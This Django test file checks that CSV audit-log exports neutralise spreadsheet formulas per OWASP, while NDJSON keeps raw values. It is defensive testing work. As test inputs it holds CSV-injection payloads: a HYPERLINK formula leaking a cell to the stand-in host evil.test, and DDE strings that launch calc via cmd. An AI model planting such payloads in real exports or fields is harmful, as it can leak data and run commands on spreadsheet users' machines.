"""CSV exports neutralise spreadsheet formulas (SPEC 8.2); NDJSON keeps every value as it is.

The hostile values arrive through the real paths: the sign-in page (User-Agent and
X-Request-ID headers), the customer API and the conversation API. OWASP's rule is applied
to every cell: one starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading
`'`. That includes harmless cells such as a negative number ("-5" is written "'-5"): OWASP
accepts this, and NDJSON, which keeps values as they are, is the format for programs.
"""

import csv
import io
import json
import time

import pytest
from celery.contrib.testing.worker import start_worker
from django.db import connection
from django.test import Client

from accounts.models import User
from accounts.services import api_token_create
from audit_read.exports import CSV_COLUMNS
from config.celery import app
from core.tenancy import tenant
from tests.conftest import make_org

HYPERLINK_AGENT = '=HYPERLINK("https://evil.test/?leak="&B2,"Click")'
CUSTOMER_NAME = "@SUM(1+9)*cmd|' /C calc'!A0"
SUBJECT = "=cmd|' /C calc'!A0"
# X-Request-ID admits [A-Za-z0-9._:-]: a leading "-" is all an attacker gets, and "-2-3"
# is still a formula to a spreadsheet.
REQUEST_ID = "-2-3"
# Benign values a careless neutraliser would damage: formula characters not in first place,
# a leading apostrophe. (A leading space is stripped by the services; the SQL rule test
# covers it.)
BENIGN_CUSTOMER = "Grace = Hopper + Co - Ltd"
BENIGN_SUBJECT = "Refund of -5 EUR, +1 more = 2 @ noon"
QUOTED_SUBJECT = "'already quoted"

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
JSON_COLUMNS = {"before", "after", "metadata"}


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(TRIGGERS) else text


def csv_cells(ndjson_event: dict) -> dict[str, str]:
    """The CSV row an NDJSON event must become: flattened, then every cell neutralised."""

    def text(value):
        return "" if value is None else value

    flat = {
        "id": ndjson_event["id"],
        "occurred_at": ndjson_event["occurred_at"],
        "event_type": ndjson_event["event_type"],
        "action": ndjson_event["action"],
        "section": ndjson_event["section"],
        "property": text(ndjson_event["property"]),
        "performed_by_type": ndjson_event["performed_by"]["type"],
        "performed_by_id": text(ndjson_event["performed_by"]["id"]),
        "performed_by_name": ndjson_event["performed_by"]["name"],
        "subject_type": ndjson_event["subject"]["type"],
        "subject_id": text(ndjson_event["subject"]["id"]),
        "subject_name": ndjson_event["subject"]["name"],
        "change_id": ndjson_event["change_id"],
        "ip_address": text(ndjson_event["ip_address"]),
        "user_agent": text(ndjson_event["user_agent"]),
        "request_id": text(ndjson_event["request_id"]),
    }
    return {name: neutralised(value) for name, value in flat.items()}


def parse_csv(body: bytes) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
    assert reader.fieldnames == [name for name, _ in CSV_COLUMNS]
    return list(reader)


def parse_ndjson(body: bytes) -> dict[str, dict]:
    events = [json.loads(line) for line in body.decode("utf-8").splitlines()]
    return {event["id"]: event for event in events}


def streamed(client: Client, fmt: str) -> bytes:
    response = client.get(f"/api/v1/audit-events/export.{fmt}")
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def background(client: Client, fmt: str) -> bytes:
    """A background export written by the Celery worker, then downloaded."""
    response = client.post(
        "/api/v1/exports/", {"format": fmt, "filters": {}}, content_type="application/json"
    )
    assert response.status_code == 202, response.content
    status_url = f"/api/v1/exports/{response.json()['id']}/"
    deadline = time.monotonic() + 60
    while (body := client.get(status_url).json())["status"] not in ("done", "failed"):
        assert time.monotonic() < deadline, body
        time.sleep(0.02)
    assert body["status"] == "done", body
    download = client.get(body["download_url"])
    assert download.status_code == 200
    return b"".join(download.streaming_content)


def hostile_log() -> Client:
    """An organisation whose log holds the hostile values; returns its administrator's client."""
    acme = make_org("Formula Acme", "admin@formula-acme.test")
    # A failed sign-in of a real account is recorded in its organisation, headers and all.
    attacker = Client(
        REMOTE_ADDR="198.51.100.66", HTTP_USER_AGENT=HYPERLINK_AGENT, HTTP_X_REQUEST_ID=REQUEST_ID
    )
    response = attacker.post(
        "/accounts/login/", {"username": "admin@formula-acme.test", "password": "wrong-password"}
    )
    assert response.status_code == 200

    with tenant(acme):
        _, secret = api_token_create(name="formula sync")
    api = Client(HTTP_AUTHORIZATION=f"Bearer {secret}", HTTP_USER_AGENT="sync-bot/2.0")
    customers = []
    for name in (CUSTOMER_NAME, BENIGN_CUSTOMER):
        response = api.post("/api/v1/customers/", {"name": name}, content_type="application/json")
        assert response.status_code == 201, response.content
        customers.append(response.json()["id"])
    for subject in (SUBJECT, BENIGN_SUBJECT, QUOTED_SUBJECT):
        response = api.post(
            "/api/v1/conversations/",
            {"customer": customers[0], "subject": subject},
            content_type="application/json",
        )
        assert response.status_code == 201, response.content

    admin = Client()
    admin.force_login(User.all_tenants.get(email="admin@formula-acme.test"))
    return admin


def assert_neutralised(csv_body: bytes, ndjson_body: bytes) -> None:
    rows = parse_csv(csv_body)
    events = parse_ndjson(ndjson_body)
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(TRIGGERS), (name, cell)

    by_value = {(name, cell) for row in rows for name, cell in row.items()}
    assert ("user_agent", "'" + HYPERLINK_AGENT) in by_value
    assert ("request_id", "'" + REQUEST_ID) in by_value
    assert ("subject_name", "'" + CUSTOMER_NAME) in by_value
    assert ("subject_name", "'" + SUBJECT) in by_value
    for benign in (BENIGN_CUSTOMER, BENIGN_SUBJECT, QUOTED_SUBJECT, "Formula Acme Admin"):
        assert ("subject_name", benign) in by_value or ("performed_by_name", benign) in by_value
    # JSON columns are JSON text: a string starts with `"`, so the value inside is untouched.
    assert ("after", json.dumps(CUSTOMER_NAME)) in by_value
    assert ("after", json.dumps(SUBJECT)) in by_value

    # Same rows otherwise: each CSV row is its NDJSON event, flattened and neutralised. (Each
    # export records itself, so only events present in both are compared.)
    common = [row for row in rows if row["id"] in events]
    assert len(common) >= len(rows) - 2 and len(common) >= 10
    for row in common:
        event = events[row["id"]]
        assert {k: v for k, v in row.items() if k not in JSON_COLUMNS} == csv_cells(event)
        for name in JSON_COLUMNS:
            # JSON text never starts with ', so one there is the neutraliser's (before "-5").
            cell = row[name].removeprefix("'")
            assert (json.loads(cell) if cell else None) == event[name]

    # NDJSON carries the raw values.
    raw = [(e["user_agent"], e["request_id"], e["subject"]["name"]) for e in events.values()]
    assert any(agent == HYPERLINK_AGENT and rid == REQUEST_ID for agent, rid, _ in raw)
    assert {CUSTOMER_NAME, SUBJECT} <= {name for _, _, name in raw}


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_streamed_and_background_csv_neutralise_formulas_and_ndjson_keeps_them(settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    admin = hostile_log()
    assert_neutralised(streamed(admin, "csv"), streamed(admin, "ndjson"))
    with start_worker(app, pool="solo", perform_ping_check=False, shutdown_timeout=30):
        csv_file = background(admin, "csv")
        ndjson_file = background(admin, "ndjson")
    assert_neutralised(csv_file, ndjson_file)


@pytest.mark.django_db
def test_csv_cell_rule_matches_owasp_exactly():
    text_cases = {
        "=1+2": "'=1+2",
        "+1": "'+1",
        "-5": "'-5",  # a negative number is prefixed too: accepted by OWASP, documented
        "@SUM(A1)": "'@SUM(A1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "": "",
        " =x": " =x",
        "'=x": "'=x",
        "a=b": "a=b",
        "5": "5",
        '"=x"': '"=x"',
        "\n=x": "\n=x",
        "＝x": "＝x",  # a fullwidth equals sign is not a formula to a spreadsheet
    }
    # JSON cells are JSON text: only a negative number starts with one of the characters.
    json_cases = {
        "-5": "'-5",
        "-0.5e3": "'-500",
        "0": "0",
        "7": "7",
        '"=cmd"': '"=cmd"',
        '"-5"': '"-5"',
        '{"a": -1}': '{"a": -1}',
        "[-1]": "[-1]",
        "true": "true",
        "null": "null",
    }
    with connection.cursor() as cursor:
        for value, expected in text_cases.items():
            cursor.execute("SELECT audit_csv_cell(%s::text)", [value])
            assert cursor.fetchone()[0] == expected, value
        for value, expected in json_cases.items():
            cursor.execute("SELECT audit_csv_cell(%s::jsonb)", [value])
            assert cursor.fetchone()[0] == expected, value
        cursor.execute(
            "SELECT audit_csv_cell(NULL::text) IS NULL, audit_csv_cell(NULL::jsonb) IS NULL"
        )
        assert cursor.fetchone() == (True, True)
